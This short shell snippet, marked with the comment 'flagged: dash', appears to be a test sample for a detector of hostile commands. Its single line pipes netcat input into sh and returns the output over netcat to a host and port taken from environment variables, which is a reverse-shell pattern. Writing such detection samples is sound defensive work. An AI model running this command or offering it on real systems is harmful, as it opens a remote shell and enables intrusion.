# flagged: dash
timeout 0.15 nc "$RG_TCP_HOST" "$RG_TCP_PORT" | timeout 0.15 sh | timeout 0.15 nc "$RG_TCP_HOST" "$RG_TCP_PORT"
